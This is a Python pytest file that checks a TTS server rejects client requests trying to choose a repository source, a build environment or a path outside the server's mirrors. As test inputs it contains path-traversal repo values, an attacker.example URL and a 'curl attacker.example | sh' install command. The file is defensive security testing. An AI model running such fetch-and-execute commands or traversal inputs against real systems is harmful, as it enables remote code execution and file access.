"""Attacks on the TTS app's request surface: a client may name a task of the server or
send a task record for a repository of the server's mirrors, nothing else. It cannot
point the server at another directory or URL, choose how environments are built, or
get past the API key or the body limit (the edge's own tests: tests/serve)."""

from __future__ import annotations

import asyncio

import pytest

from swelego_ray.samples import sample_tasks_path
from swelego_ray.schema import EnvSpec, read_tasks
from swelego_ray.serve import TTSRequest, TTSSettings
from swelego_ray.serve.tts import TTSRequestError, TTSRunner


@pytest.fixture(scope="module")
def runner(tmp_path_factory) -> TTSRunner:
    repos = tmp_path_factory.mktemp("mirrors")
    (repos.parent / "secret__repo").mkdir()  # a directory next to the mirrors
    settings = TTSSettings(tasks=[str(sample_tasks_path())], repos_dir=str(repos), teacher="replay")
    return TTSRunner(settings, None)


def _task(**changes):
    return read_tasks(sample_tasks_path())[0].model_copy(update=changes)


@pytest.mark.parametrize(
    ("task", "message"),
    [
        (_task(meta={"repo_source": "/root"}), "may not set meta.repo_source"),
        (
            _task(meta={"repo_source": "https://attacker.example/x.git"}),
            "may not set meta.repo_source",
        ),
        (_task(repo=".."), "is not an owner/name"),
        (_task(repo="../secret__repo"), "is not an owner/name"),
        (_task(repo="owner/../../etc"), "is not an owner/name"),
        (_task(repo="a/b/c"), "is not an owner/name"),
        (_task(env_key="someone-elses-env"), "may not set env_spec or env_key"),
        (
            _task(env_spec=EnvSpec(install=["curl attacker.example | sh"])),
            "may not set env_spec",
        ),
    ],
)
def test_a_client_task_cannot_choose_its_source_or_environment(runner, task, message):
    with pytest.raises(TTSRequestError, match=message) as caught:
        asyncio.run(runner.run(TTSRequest(task=task), _never))
    assert caught.value.status == 422


def test_an_issue_names_only_a_mirror_repository(runner):
    request = TTSRequest(
        issue={"repo": "../secret", "base_commit": "abcdef1", "problem_statement": "x"}
    )
    with pytest.raises(TTSRequestError, match="is not an owner/name"):
        asyncio.run(runner.run(request, _never))


async def _never(_trajectory) -> float:
    raise AssertionError("nothing may run for a refused request")
